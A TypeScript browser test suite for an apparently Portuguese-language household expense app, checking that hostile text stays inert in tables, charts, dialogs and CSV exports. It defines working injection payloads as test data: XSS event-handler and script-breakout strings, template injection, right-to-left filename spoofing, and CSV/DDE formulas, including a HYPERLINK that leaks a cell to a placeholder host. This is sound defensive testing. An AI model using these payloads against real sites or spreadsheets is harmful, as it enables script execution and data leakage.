import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest'
import { createHousehold, type Household } from './harness/household'
import { PHONE, Reader } from './harness/reader'
import { PAGES } from './harness/routes'

const IMAGE = '<img src=x onerror=globalThis.hostileRan=1>'
const SCRIPT = '</script><script>globalThis.hostileRan=2</script>'
const SVG = '<svg/onload=globalThis.hostileRan=3>'
const FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"clique")'
const EMOJI = '🧾'.repeat(280)
const RTL = 'conta\u202Egpj.exe\u202C paga'
const TEMPLATE = '{{constructor.constructor("globalThis.hostileRan=4")()}}'

/** As an agent would send them; every one is a description that the rules accept. */
const DESCRIPTIONS = [IMAGE, SCRIPT, SVG, FORMULA, EMOJI, TEMPLATE, '+1+cmd|calc', '@SUM(1)', '-2+3']

let home: Household
let reader: Reader

beforeAll(async () => {
	home = await createHousehold(inject('stack'), {
		name: IMAGE,
		categories: [{ name: IMAGE }, { name: '"><b>Casa', aliases: [SCRIPT] }],
		sources: [{ name: SVG }, { name: FORMULA }],
		people: [{ name: '</title><i>Ana' }],
	})
	await home.post(
		DESCRIPTIONS.map((description, i) => ({
			description,
			amount: i + 1,
			category: i % 2 ? IMAGE : '"><b>Casa',
			source: i % 2 ? SVG : FORMULA,
			person: '</title><i>Ana',
			payload: { message: `${description} ${IMAGE}` },
		})),
	)
	await home.post([
		{ description: 'Sem categoria', amount: 5, category: '<u onmouseover=hostileRan=6>lanche', source: SVG },
		{ description: RTL, amount: IMAGE },
		{ description: SCRIPT, amount: 'um milhão' },
	])
	reader = await Reader.open(inject('site'), { acceptDownloads: true })
	await reader.signIn(home.owner)
	await reader.sees('live')
})
afterAll(async () => {
	const ran = await reader.page.evaluate(() => (globalThis as { hostileRan?: number }).hostileRan)
	await reader.close()
	expect(ran).toBeUndefined()
})

beforeEach(() => reader.begin(inject('site')))

/** Elements that only hostile text could have made. */
const MARKUP = 'img[src=x], svg[onload], [onmouseover], [onerror], b:has-text("Casa") > b'

async function nothingCameAlive(): Promise<void> {
	expect(await reader.page.locator(MARKUP).count()).toBe(0)
	expect(await reader.page.evaluate(() => 'hostileRan' in globalThis)).toBe(false)
}

describe('hostile text is text', () => {
	it('in the table', async () => {
		for (const text of DESCRIPTIONS) await reader.rows(text).first().waitFor()
		await nothingCameAlive()
	})

	it('in chart labels, legends and tooltips', async () => {
		const category = reader.chart('category')
		await category.getByText(IMAGE).first().waitFor()
		await reader.chart('source').getByText(SVG).first().waitFor()
		for (const name of ['category', 'source', 'person', 'history']) {
			const marks = reader.chart(name).locator('[data-mark=column], [data-mark=slice]')
			// Charts are drawn when they come near the screen.
			await reader.chart(name).scrollIntoViewIfNeeded()
			await marks.first().waitFor()
			const count = await marks.count()
			for (let i = 0; i < count; i++) await marks.nth(i).hover({ force: true })
			await nothingCameAlive()
		}
		// This month is the last of the history's columns; what is told of it names its categories.
		const plot = reader.chart('history').locator('.plot')
		const { width, height } = (await plot.boundingBox())!
		await plot.hover({ position: { x: width - 12, y: height / 2 } })
		await plot.locator('.plot-tip').getByText(IMAGE).waitFor()
		await nothingCameAlive()
	})

	it('in the details of a purchase', async () => {
		await reader.rows(SCRIPT).first().click()
		const drawer = reader.page.locator('dialog[open]')
		await drawer.getByText(IMAGE).first().waitFor()
		await nothingCameAlive()
		await reader.page.keyboard.press('Escape')
		await drawer.waitFor({ state: 'hidden' })
	})

	it('among the messages to review', async () => {
		await reader.go('#/conferir')
		const review = reader.page.locator('[data-page=review]')
		await review.getByText(SCRIPT).first().waitFor()
		await review.getByText(IMAGE).first().waitFor()
		await nothingCameAlive()
	})

	it('on the settings pages and in budgets', async () => {
		for (const [route, ready] of PAGES) {
			await reader.go(route)
			await reader.page.locator(ready).first().waitFor()
			await nothingCameAlive()
		}
		await reader.go('#/')
	})

	it('in what is announced and in the title', async () => {
		await home.post({ description: IMAGE, amount: 3, category: IMAGE })
		await reader.rows(IMAGE).nth(1).waitFor()
		await nothingCameAlive()
		expect(await reader.page.title()).not.toBe('')
	})

	it('in an exported file, where no cell begins a formula', async () => {
		const { bytes } = await reader.download(reader.page.getByRole('button', { name: /csv/i }).first())
		const text = bytes.toString('utf8')
		expect(text).toContain('HYPERLINK')
		for (const cell of text.replace(/^\uFEFF/, '').split(/[;\r\n]+/)) expect(cell).not.toMatch(/^"?[=+@\t]/)
	})

	it('on a phone and on the wall', async () => {
		await reader.page.setViewportSize(PHONE)
		await reader.figure('spent').waitFor()
		const wide = await reader.page.evaluate(() => document.documentElement.scrollWidth)
		expect(wide).toBeLessThanOrEqual(PHONE.width)
		await nothingCameAlive()
		await reader.page.goto(`${inject('site')}/?tv=1`)
		await reader.page.locator('[data-page=tv]').waitFor()
		await reader.sees('live')
		await nothingCameAlive()
	})
})
